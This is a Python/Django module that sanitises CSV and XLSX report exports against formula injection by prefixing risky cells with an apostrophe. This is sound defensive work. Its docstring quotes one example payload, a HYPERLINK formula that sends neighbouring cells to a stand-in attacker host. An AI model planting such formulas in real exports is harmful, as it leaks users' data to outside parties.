"""CSV and XLSX downloads of report tables (admin reports and open data).

Every cell the package writes goes through `safe_cell`: a text cell that starts with = + - @ tab
or CR is read as a formula by spreadsheet programs (a failed sign-in named
`=HYPERLINK("https://evil.example/?x="&A2,"open")` would become a live link that sends the
neighbouring cells away), so such text gets a leading apostrophe and stays text (OWASP's advice
for CSV injection). Numbers stay numbers.
"""

import csv
import io

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value as a spreadsheet shows it as text, never as a formula."""
    if value is None or isinstance(value, (bool, int, float)):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_row(row):
    return [safe_cell(value) for value in row]


class NeutralisedExportMixin:
    """For Wagtail's SpreadsheetExportMixin views (reports, listings): neutralise every cell."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        return value if not isinstance(value, str) else safe_cell(value)

    def get_heading(self, queryset, field):
        return safe_cell(super().get_heading(queryset, field))


def csv_response(filename, headings, rows):
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")  # a BOM so spreadsheet programs read Thai as UTF-8
    writer = csv.writer(response)
    writer.writerow(safe_row(headings))
    writer.writerows(safe_row(row) for row in rows)
    return response


def xlsx_response(filename, headings, rows, title="report"):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = title[:31]
    sheet.append([safe_cell(str(h)) for h in headings])
    for row in rows:
        sheet.append([value if isinstance(value, (int, float)) or value is None else safe_cell(value)
                      for value in row])
    stream = io.BytesIO()
    book.save(stream)
    response = HttpResponse(
        stream.getvalue(), content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def table_response(export_format, basename, headings, rows, title="report"):
    if export_format == "xlsx":
        return xlsx_response(basename + ".xlsx", headings, rows, title)
    return csv_response(basename + ".csv", headings, rows)
